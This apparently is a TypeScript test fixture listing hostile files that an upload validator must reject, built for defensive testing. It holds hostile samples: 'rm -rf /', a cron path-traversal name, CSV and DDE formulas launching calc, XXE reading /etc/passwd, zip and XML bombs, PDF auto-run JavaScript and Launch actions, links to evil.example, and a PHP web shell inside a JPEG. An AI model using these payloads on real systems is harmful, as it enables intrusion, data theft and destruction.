import { crc32, deflateSync, gzipSync } from "node:zlib";
import { pdfOf, report } from "#prisma/seed/pdf.ts";
import { packedObjects } from "./packed-pdf.ts";
import { workbookEntries, type ZipEntry, zip } from "./zip.ts";

/** A file that somebody could send to harm who opens it, or us: its name, declared type, bytes. */
export type HostileFile = {
  readonly name: string;
  readonly declared: string;
  readonly bytes: Uint8Array;
};

const pdf = "application/pdf";
const xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const megabyte = 1024 ** 2;

const file = (name: string, declared: string, bytes: Uint8Array | string): HostileFile => ({
  ...{ name, declared },
  bytes: typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes,
});

/** A report whose catalogue does something. */
const acting = (catalogue: string) => file("report.pdf", pdf, report([["Report"]], catalogue));

const sheet = '<row r="1"><c r="A1"><v>1</v></c></row>';
const types = (type: string, part: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="${part}" ContentType="${type}"/></Types>`;
const bookTypes = types(`${xlsx}.main+xml`, "/xl/workbook.xml");
const wordTypes = types(`${docx}.main+xml`, "/word/document.xml");

/** A workbook as it should be but for what is added. */
const book = (...more: readonly ZipEntry[]) => {
  const [, ...rest] = workbookEntries(sheet);
  return file(
    "book.xlsx",
    xlsx,
    zip([{ name: "[Content_Types].xml", data: bookTypes }, ...rest, ...more]),
  );
};
const letter = (...more: readonly ZipEntry[]) =>
  file(
    "letter.docx",
    docx,
    zip([
      { name: "[Content_Types].xml", data: wordTypes },
      { name: "word/document.xml", data: "<w:document/>" },
      ...more,
    ]),
  );
const relations = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="${rel}/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

function chunk(name: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length);
  head.write(name, 4, "latin1");
  const end = Buffer.alloc(4);
  end.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, end]);
}

/** A picture of one grey pixel, or one that claims more. */
export function png(width = 1, height = 1, more: Buffer = Buffer.alloc(0)): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width);
  size.writeUInt32BE(height, 4);
  size.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", size),
    chunk("IDAT", deflateSync(Buffer.from([0, 128]))),
    chunk("IEND", Buffer.alloc(0)),
    more,
  ]);
}

const script = "<script>alert(1)</script>";
const small = () => zip([{ name: "a.txt", data: "x" }]);
const utf16 = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);

/** Every file must be refused with a reason, whatever its sender claims. */
export const hostileFiles: Readonly<Record<string, HostileFile>> = {
  "nothing at all": file("report.pdf", pdf, ""),
  "one byte": file("report.pdf", pdf, "%"),
  zeros: file("report.pdf", pdf, Buffer.alloc(4_096)),
  "no extension": file("report", pdf, report([["x"]])),
  "a program": file("report.exe", "application/octet-stream", "MZ\x90\0\x03"),
  "a program called a report": file("report.pdf", pdf, "MZ\x90\0\x03\0\0\0\x04"),
  "a program of Linux called a text": file("note.txt", "text/plain", "\x7fELF\x02\x01\x01"),
  "a shell script by its name": file("run.sh", "text/plain", "#!/bin/sh\nrm -rf /"),
  "a page": file("page.html", "text/html", "<!doctype html><p>x"),
  "a page called a report": file("report.pdf", pdf, `<html>${script}`),
  "a page called a text": file("note.txt", "text/plain", `<!DOCTYPE html>${script}`),
  "a page behind blanks": file("note.csv", "text/csv", `\n\n   <body>${script}`),
  "a vector image": file("logo.svg", "image/svg+xml", `<svg xmlns="x">${script}</svg>`),
  "a vector image called a picture": file("logo.png", "image/png", `<svg onload="alert(1)"/>`),
  "a vector image called a text": file("logo.txt", "text/plain", `<svg onload="alert(1)"/>`),
  "an XML stylesheet called JSON": file("a.json", "application/json", '<?xml version="1.0"?><x/>'),
  "a report that says it is a page": file("report.pdf", "text/html", report([["x"]])),
  "a picture called a report": file("report.pdf", pdf, png()),
  "a report called a picture": file("photo.png", "image/png", report([["x"]])),
  "two extensions": file("report.pdf.html", "text/html", report([["x"]])),
  "a path as a name": file("../../../etc/cron.d/x", "text/plain", "* * * * * root id"),
  "a name of zeros": file("report.html\0.pdf", "text/html", `<html>${script}`),
  "a name that reads backwards": file("fdp.\u202exe.exe", pdf, report([["x"]])),
  "a text with a zero": file("note.txt", "text/plain", "a\0b"),
  "a text in UTF-16": file("note.txt", "text/plain", utf16("note")),
  "a text in Windows-1252": file("note.txt", "text/plain", Buffer.from([0xe9, 0x74, 0xe9])),
  "half a character": file("note.csv", "text/csv", Buffer.from([0x61, 0xc3])),
  "escapes for a terminal": file("note.txt", "text/plain", "\x1b]0;x\x07\x1b[2J"),
  "a table that starts a program": file("t.csv", "text/csv", "a,=cmd|' /C calc'!A0\n"),
  "a table that starts one in quotes": file(
    "t.csv",
    "text/csv",
    "a;\"@SUM(1)*cmd|' /C calc'!A0\"\n",
  ),
  "an archive": file("files.zip", "application/zip", small()),
  "an archive called a workbook": file("book.xlsx", xlsx, small()),
  "an archive of zeros called a workbook": file(
    "book.xlsx",
    xlsx,
    Buffer.from("PK\x03\x04\0\0\0\0"),
  ),
  "a packed file": file("note.txt", "text/plain", gzipSync("note")),
  "an old office document": file(
    "old.doc",
    "application/msword",
    "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
  ),
  "an old office document called a new one": file(
    "new.docx",
    docx,
    "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
  ),
  "a workbook with macros by its name": { ...book(), name: "book.xlsm" },
  "a workbook with macros": book({ name: "xl/vbaProject.bin", data: "x" }),
  "a workbook with old macros": book({ name: "xl/macrosheets/sheet1.xml", data: "<x/>" }),
  "a workbook with a control": book({ name: "xl/activeX/activeX1.bin", data: "x" }),
  "a workbook with an object": book({ name: "xl/embeddings/oleObject1.bin", data: "x" }),
  "a workbook that asks another server": book({ name: "xl/connections.xml", data: "<x/>" }),
  "a workbook that starts a program": book({
    name: "xl/externalLinks/externalLink1.xml",
    data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
  }),
  "a workbook of a billion laughs": book({
    name: "xl/sharedStrings.xml",
    data: '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>',
  }),
  "a workbook that reads a file": book({
    name: "xl/styles.xml",
    data: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
  }),
  "a workbook that climbs out": book({ name: "../../../tmp/x.xml", data: "<x/>" }),
  "a workbook that is a bomb": book({ name: "xl/big.xml", data: Buffer.alloc(300 * megabyte, 32) }),
  "a workbook that lies about a bomb": book({
    ...{ name: "xl/big.xml", data: Buffer.alloc(64 * megabyte, 32), claimedSize: 100 },
  }),
  "a workbook with a locked part": book({ name: "xl/x.xml", data: "<x/>", flags: 1 }),
  "a workbook of too many parts": book(
    ...Array.from({ length: 6_000 }, (_, at) => ({ name: `xl/p${at}.bin`, data: "" })),
  ),
  "half a workbook": file("book.xlsx", xlsx, book().bytes.subarray(0, 600)),
  "a letter with macros": letter({ name: "word/vbaProject.bin", data: "x" }),
  "a letter with a template elsewhere": letter({
    name: "word/_rels/settings.xml.rels",
    data: relations("attachedTemplate", "https://evil.example/t.dotm"),
  }),
  "a letter with a picture elsewhere": letter({
    name: "word/_rels/document.xml.rels",
    data: relations("image", "https://evil.example/pixel.png"),
  }),
  "a letter with a field that starts a program": letter({
    name: "word/footer1.xml",
    data: '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
  }),
  "a report that runs a script": acting("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
  "a report that runs a script, spelled apart": acting(
    "/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>",
  ),
  "a report with a tree of scripts": acting("/Names << /JavaScript 9 0 R >>"),
  "a report that starts a program": acting("/OpenAction << /S /Launch /F (cmd.exe) >>"),
  "a report that starts a program, spelled apart": acting(
    "/AA << /O << /S /#4caunch /F (cmd.exe) >> >>",
  ),
  "a report with a file inside": acting("/Names << /EmbeddedFiles 9 0 R >>"),
  "a report that opens another file": acting(
    "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>",
  ),
  "a report that sends a form": acting(
    "/OpenAction << /S /SubmitForm /F (https://evil.example) >>",
  ),
  "a report with a film": acting("/Extra << /Subtype /RichMedia >>"),
  "a report with a dynamic form": acting("/AcroForm << /XFA 9 0 R >>"),
  "a report with a script among packed objects": file(
    "report.pdf",
    pdf,
    packedObjects("9 0 << /S /JavaScript /JS (app.alert(1)) >>"),
  ),
  "a report with a script among objects": file(
    "report.pdf",
    pdf,
    packedObjects("9 0 << /S /JavaScript >>", ""),
  ),
  "a report with objects packed out of sight": file(
    "report.pdf",
    pdf,
    packedObjects("9 0 << /S /Launch >>", "[/ASCIIHexDecode /FlateDecode]"),
  ),
  "a report with a bomb of objects": file(
    "report.pdf",
    pdf,
    packedObjects(" ".repeat(300 * megabyte)),
  ),
  "a report with broken objects": file(
    "report.pdf",
    pdf,
    pdfOf([
      { head: "<< /Type /Catalog >>" },
      { head: "<< /Type /ObjStm /Filter /FlateDecode /Length 4 >>", stream: Buffer.from("nope") },
    ]),
  ),
  "a report cut off": file("report.pdf", pdf, report([["x"]]).subarray(0, 300)),
  "a report behind a page": file(
    "report.pdf",
    pdf,
    Buffer.concat([Buffer.from(script), report([["x"]])]),
  ),
  "a report that is an archive as well": file(
    "report.pdf",
    pdf,
    Buffer.concat([report([["x"]]), small()]),
  ),
  "a picture that is an archive as well": file("photo.png", "image/png", png(1, 1, small())),
  "a picture with a page behind it": file("photo.png", "image/png", png(1, 1, Buffer.from(script))),
  "a picture of four thousand million pixels": file("photo.png", "image/png", png(65_535, 65_535)),
  "half a picture": file("photo.png", "image/png", png().subarray(0, 40)),
  "a photograph that is only its start": file(
    "photo.jpg",
    "image/jpeg",
    "\xff\xd8\xff\xe0\0\x10JFIF",
  ),
  "a photograph with a program in it": file(
    "photo.jpg",
    "image/jpeg",
    "\xff\xd8\xff\xe0\0\x10JFIF\0<?php system($_GET[0]); ?>",
  ),
  "a film called a picture": file("photo.webp", "image/webp", "RIFF\x10\0\0\0AVI LIST\0\0\0\0"),
};
